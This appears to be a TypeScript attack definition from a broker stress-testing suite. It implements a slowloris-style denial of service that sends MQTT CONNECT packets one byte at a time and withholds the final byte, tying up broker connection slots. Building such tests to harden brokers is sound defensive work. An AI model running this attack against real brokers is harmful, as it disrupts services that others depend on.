/** CONNECT, a byte at a time. A broker that waits for the rest holds a place for each of them [A14]. */
import type { Attack } from './attack.ts'
import { connect } from './packets.ts'

export const slowConnects: Attack = {
  name: 'slow-connects',
  about: 'sends CONNECT a byte at a time, to hold places without ever coming in',
  connections: 100,
  perSecond: 200,
  act: attacker => {
    const wire = attacker.wire()
    const packet = connect({ clientId: attacker.clientId.padEnd(200, 'x') })
    // The last byte is never sent.
    if (wire.step >= packet.length - 1) return
    wire.send(packet.subarray(wire.step, wire.step + 1), wire.step === 0 ? 1 : 0)
    wire.step += 1
  },
}
